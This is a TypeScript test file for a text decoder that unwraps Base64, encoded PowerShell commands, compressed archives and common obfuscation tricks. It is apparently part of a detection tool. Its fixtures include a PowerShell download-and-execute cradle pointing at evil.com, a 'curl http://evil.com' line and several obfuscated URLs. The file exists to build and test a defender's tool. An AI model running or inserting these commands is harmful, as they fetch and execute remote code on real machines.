import { createHash } from 'node:crypto'
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib'
import fc from 'fast-check'
import { zipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import { decodeText } from '../../../src/analytics/text/decode-text.ts'
import { hostileTexts } from './hostile-texts.ts'

const command = "IEX (New-Object Net.WebClient).DownloadString('http://evil.com/a.ps1')"

function base64(text: string | Uint8Array, encoding: BufferEncoding = 'utf8'): string {
  return (typeof text === 'string' ? Buffer.from(text, encoding) : Buffer.from(text)).toString('base64')
}

function encodings(text: string): string[] {
  return decodeText(text).steps.map(({ encoding, charset }) => `${encoding} ${charset}`)
}

describe('Base64', () => {
  it.each(['-enc', '-e', '-ec', '-EncodedCommand', '/enc', '\u2013enc'])('after %s is UTF-16', (parameter) => {
    const line = `powershell.exe -nop ${parameter} ${base64(command, 'utf16le')}`
    expect(decodeText(line).text).toBe(`powershell.exe -nop ${parameter} ${command}`)
    expect(encodings(line)).toEqual(['base64 utf-16le'])
  })

  it('after -enc may be UTF-8 all the same', () => {
    expect(decodeText(`.\\powershell  -enc ${base64(command)}`).text).toBe(`.\\powershell  -enc ${command}`)
  })

  it('in UTF-16 of other scripts is read where PowerShell says so', () => {
    expect(decodeText(`powershell -enc ${base64('Привет', 'utf16le')}`).text).toBe('powershell -enc Привет')
  })

  it('is read whatever its length and that of the text around it', () => {
    for (let cut = 0; cut < 8; cut++) {
      const whole = command.slice(0, command.length - cut)
      for (const before of ['', 'x ', 'xy ', 'xyz ']) {
        expect(decodeText(`${before}${base64(whole).replace(/=+$/, '')}`).text).toBe(before + whole)
      }
    }
  })

  it('that was cut off gives all whole bytes before the cut', () => {
    const encoded = base64(command)
    for (let length = 40; length < 60; length++) {
      const bytes = Math.floor((length * 6) / 8)
      expect(decodeText(`a ${encoded.slice(0, length)}`).text).toBe(`a ${command.slice(0, bytes)}`)
    }
  })

  it('that was cut at its beginning is read from the next group on', () => {
    expect(decodeText(`echo.${base64(command).slice(2)}`).text).toContain('w-Object Net.WebClient')
  })

  it('goes over lines', () => {
    const lines = base64(command.repeat(3)).replace(/.{64}/g, '$&\r\n')
    expect(decodeText(`-----\n${lines}\n-----`).text).toBe(`-----\n${command.repeat(3)}\n-----`)
  })

  it('does not go over to a word of the next line', () => {
    const whole = 'forty-eight characters make sixty-four of Base64'
    expect(decodeText(`${base64(whole)}\nDone\n`).text).toBe(`${whole}\nDone\n`)
  })

  it('may be of the alphabet for URLs', () => {
    const text = 'subject?=~~~ and ???>>> in a token'
    expect(decodeText(Buffer.from(text).toString('base64url')).text).toBe(text)
  })

  it.each([
    [`FromBase64String('${base64('hi!')}')`, "FromBase64String('hi!')"],
    [`atob("${base64('hello')}")`, 'atob("hello")'],
    ['echo aGVsbG8gd29ybGQ= | base64 -d', 'echo hello world | base64 -d'],
    [`data:text/plain;base64,${base64('a,b')}`, 'data:text/plain;base64,a,b'],
    [`Authorization: Basic ${base64('user:pass')}`, 'Authorization: Basic user:pass'],
  ])('may be short where the text says what it is: %s', (text, expected) => {
    expect(decodeText(text).text).toBe(expected)
  })

  it.each([
    'ThisIsAVeryLongCamelCaseWordIndeedYesItIs',
    'MonitorKnowledgeDiscovery.vbs',
    'C:/Users/Administrator/AppData/Local/Temp/Low',
    '/usr/share/doc/packages/somethingverylong/README',
    'd41d8cd98f00b204e9800998ecf8427e',
    '12345678901234567890123456789012',
    'some-very-long-hyphenated-name-of-a-thing_with_underscores',
    'ABCDEFGHIJKLMNOPQRSTUVWXYZ',
    'SeBackupPrivilegeSeRestorePrivilegeSeDebugPrivilege',
    '/subscriptions/91e4d2b7-35fa-4a86-a0cc-7d2f6e18b043/resourceGroups/rg',
  ])('is not %s', (text) => {
    expect(decodeText(text)).toEqual({ text, steps: [], notices: [] })
  })

  it('tells files by their beginning, with hashes of what came out', () => {
    const program = new Uint8Array(256)
    program.set([0x4d, 0x5a])
    program[0x3c] = 128
    program.set([0x50, 0x45, 0, 0], 128)
    for (const [characteristics, subsystem, type] of [
      [0x02, 3, 'exe'],
      [0x20, 2, 'dll'],
      [0x02, 1, 'sys'],
    ] as const) {
      program[128 + 23] = characteristics
      program[128 + 92] = subsystem
      const { text, steps } = decodeText(`echo ${base64(program)}`)
      const sha256 = createHash('sha256').update(program).digest('hex')
      expect(steps[0]).toMatchObject({ encoding: 'base64', charset: 'binary', fileType: type, bytes: 256, sha256 })
      expect(text).toBe(`echo <${type}, 256 bytes, sha256 ${sha256.slice(0, 16)}…>`)
    }
  })
})

describe('wrappers', () => {
  it.each([
    ['gzip', gzipSync(command)],
    ['zlib', deflateSync(command)],
    ['zip', zipSync({ 'a.ps1': Buffer.from(command) })],
  ])('%s is opened', (encoding, bytes) => {
    const line = `FromBase64String('${base64(bytes)}')`
    expect(decodeText(line).text).toBe(`FromBase64String('${command}')`)
    expect(encodings(line)).toEqual(['base64 binary', `${encoding} utf-8`])
  })

  it('a raw stream is opened where the code says that it is one', () => {
    const packed = base64(deflateRawSync(command))
    expect(decodeText(`IO.Compression.DeflateStream FromBase64String('${packed}')`).text).toContain(command)
    expect(decodeText(`FromBase64String('${packed}')`).text).not.toContain(command)
  })

  it('a stream that was cut gives what came before', () => {
    const text = Array.from({ length: 200 }, (_, at) => `line ${at * 7919}`).join('\n')
    const packed = base64(gzipSync(text))
    expect(decodeText(`x ${packed.slice(0, packed.length - 200)}`).text).toContain('line 7919\nline 15838')
  })

  it('a tar in a gzip gives its members', () => {
    const { steps } = decodeText(base64(gzipSync(tarOf('run.sh', 'curl http://evil.com'))))
    expect(steps.map(({ encoding, depth, input }) => [encoding, depth, encoding === 'base64' ? '' : input])).toEqual([
      ['base64', 1, ''],
      ['gzip', 2, ''],
      ['tar', 3, 'run.sh'],
    ])
    expect(steps[2]!.decoded).toBe('curl http://evil.com')
  })

  it('a locked zip is named and not opened', () => {
    const bytes = zipSync({ 'a.txt': Buffer.from('secret secret secret secret') })
    bytes[6]! |= 1
    const { steps, notices } = decodeText(base64(bytes))
    expect(steps[0]!.fileType).toBe('zip with password')
    expect(steps[1]).toMatchObject({ encoding: 'zip', input: 'a.txt', problem: 'locked by a password', sha256: '' })
    expect(notices).toEqual(['zip a.txt: locked by a password.'])
  })

  it('a bomb is not unpacked, and says so', () => {
    const bomb = gzipSync(Buffer.alloc(4_000_000))
    const { steps, notices } = decodeText(base64(bomb), { bytes: 1_000_000 })
    expect(steps[1]).toMatchObject({ encoding: 'gzip', bytes: 0 })
    expect(steps[1]!.problem).toMatch(/^more than \d+ bytes: not unpacked$/)
    expect(notices).toHaveLength(1)
    const many = zipSync(
      Object.fromEntries(Array.from({ length: 300 }, (_, at) => [`${at}.txt`, Buffer.from('some text')])),
    )
    expect(decodeText(base64(many)).notices).toEqual(['zip: more than 100 members: the rest is left out.'])
  })

  it('ends where bytes hold themselves, and at the depth asked for', () => {
    let nested = command
    for (let depth = 0; depth < 25; depth++) nested = base64(nested)
    expect(decodeText(nested, { depth: 3 }).steps.at(-1)!.depth).toBe(3)
    const twenty = decodeText(nested)
    expect(twenty.steps.map(({ depth }) => depth)).toEqual(Array.from({ length: 20 }, (_, at) => at + 1))
    expect(twenty.text).toBe(Array.from({ length: 5 }).reduce<string>((text) => base64(text), command))
    expect(twenty.notices).toEqual(['What is encoded more than 20 times over is left as it is.'])
    const whole = decodeText(nested, { depth: 50 })
    expect([whole.text, whole.notices]).toEqual([command, []])
  })

  it('no more steps and bytes are made than asked for', () => {
    const many = Array.from({ length: 40 }, (_, at) => base64(`this is text number ${at}`)).join(' ')
    const { steps, notices } = decodeText(many, { steps: 10 })
    expect(steps).toHaveLength(10)
    expect(notices).toEqual(['Only the first 10 encoded parts are decoded.'])
  })
})

describe('other ways to write a text', () => {
  it.each([
    ["$a='ht'+'tp://'+'evil.com'", "$a='http://evil.com'", 'concatenation'],
    ['"a" & "b" & "c"', "'abc'", 'concatenation'],
    ['p^ow^er^shell -c dir', 'powershell -c dir', 'caret'],
    ['I`EX; nEw-`oBJe`CT x', 'I`EX; nEw-`oBJe`CT x'.replaceAll('`', ''), 'backtick'],
    ["(\"{1}{0}\" -f 'X','IE')", "('IEX')", 'format'],
    ["'hXXp://a.com'.Replace('XX','tt')", "'http://a.com'", 'replace'],
    ["'hXXp://a.com' -replace 'xx','tt'", "'http://a.com'", 'replace'],
    ['StrReverse("moc.live//:ptth")', "'http://evil.com'", 'reversed'],
    ["'sp1.a'[-1..-5] -join ''", "'a.1ps'", 'reversed'],
    ['echo moc.live//:ptth', 'echo http://evil.com', 'reversed'],
    ['[char]104+[char]0x74 + [char](116)+[char]112', 'http', 'char codes'],
    ['chr(104)&chr(116)&ChrW(116)&chr(112)', 'http', 'char codes'],
    ['String.fromCharCode(104,116,116,112)', 'String.fromCharCode(http)', 'char codes'],
    ["'104 116 116 112'.Split(' ')|%{[char][int]$_}", "'http'.Split(' ')|%{[char][int]$_}", 'char codes'],
    ['eval("\\x68\\x74\\x74\\x70")', 'eval("http")', 'escapes'],
    ['unescape("%u0068%u0074%u0074%u0070")', 'unescape("http")', 'escapes'],
    ['echo 68747470733a2f2f6576696c2e636f6d2f61', 'echo https://evil.com/a', 'hex'],
    ['x 0x68747470733a2f2f61', 'x https://a', 'hex'],
    ['0x68,0x74,0x74,0x70,0x3a,0x2f,0x2f,0x61', 'http://a', 'hex'],
    ['68 74 74 70 3a 2f 2f 61', 'http://a', 'hex'],
    ['http://a.com/?q=%2e%2e%2fetc', 'http://a.com/?q=../etc', 'percent'],
  ])('%s is %s', (text, expected, encoding) => {
    const decoded = decodeText(text)
    expect(decoded.text).toBe(expected)
    expect(decoded.steps[0]!.encoding).toBe(encoding)
  })

  it.each([
    '"$a"+"b"',
    '("{0:x}" -f \'a\')',
    "'abc' -replace 'a.c','x'",
    '%date% %systemroot%\\a %PROGRAMDATA%\\b %APPDATA%',
    '`n`t "a`nb"',
    'a^b',
    '100% of 50%',
    '{E10F6C3A-F1AE-4ADC-AA9D-2FE65525666E}',
    '12-34-56-78-9a-bc 2020-11-22 10:20:30',
    '0xffffffff 0xC000006D',
    '%fe%ff',
    'Get-Date -f yyyy',
  ])('%s is left as it is', (text) => {
    expect(decodeText(text)).toEqual({ text, steps: [], notices: [] })
  })

  it('are undone within each other, each step below the one it was in', () => {
    const inner = base64("$u='ht'+'tp://evil.com'")
    const { text, steps } = decodeText(`powershell -e ${base64(`iex ${inner}`, 'utf16le')}`)
    expect(text).toBe("powershell -e iex $u='http://evil.com'")
    expect(steps.map(({ encoding, depth, parent }) => [encoding, depth, parent])).toEqual([
      ['base64', 1, undefined],
      ['base64', 2, 0],
      ['concatenation', 3, 1],
    ])
  })

  it('are found in a Base64 text that was put together from parts', () => {
    const encoded = base64(command)
    expect(decodeText(`'${encoded.slice(0, 30)}'+'${encoded.slice(30)}'`).text).toBe(`'${command}'`)
  })
})

describe('any text', () => {
  it('comes back from Base64 as it went in', () => {
    const readable = fc.string({
      unit: fc.constantFrom(...'abcdefghijklmnopqrstuvwxyz ABC 019.,:/\n'),
      minLength: 24,
      maxLength: 300,
    })
    fc.assert(
      fc.property(readable, (text) => {
        const [step] = decodeText(`powershell -enc ${base64(text, 'utf16le')}`).steps
        expect(step!.decoded).toBe(text)
      }),
      { seed: 7, numRuns: 300 },
    )
  })

  it('gives steps that stand where they say, and never fails', () => {
    const piece = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 8 }),
      fc.uint8Array({ maxLength: 60 }).map((bytes) => base64(bytes)),
      fc.uint8Array({ maxLength: 60 }).map((bytes) => base64(gzipSync(bytes))),
      fc.constantFrom(
        "'a'+'b'",
        ' -enc ',
        '[char]',
        '%41%42',
        '`',
        '^',
        'StrReverse(',
        '\\x41\\x42\\x43\\x44',
        'PK\x03\x04',
        'UEsDBBQAAAAIA',
      ),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const text = pieces.join(' ')
        const decoded = decodeText(text)
        for (const step of decoded.steps) expect(step.depth).toBeLessThanOrEqual(21)
        if (decoded.steps.length === 0) expect(decoded.text).toBe(text)
      }),
      { seed: 7, numRuns: 150 },
    )
  })

  it.each(Object.keys(hostileTexts))('is done with a million %s', (name) => {
    expect(decodeText(hostileTexts[name]!(2 ** 20)).steps.length).toBeLessThanOrEqual(500)
  })
})

/** One file as tar has it. */
function tarOf(name: string, content: string): Buffer {
  const header = Buffer.alloc(512)
  header.write(name, 0)
  header.write(content.length.toString(8).padStart(11, '0'), 124)
  header.write('0', 156)
  header.write('ustar', 257)
  return Buffer.concat([header, Buffer.from(content.padEnd(512, '\0')), Buffer.alloc(1024)])
}
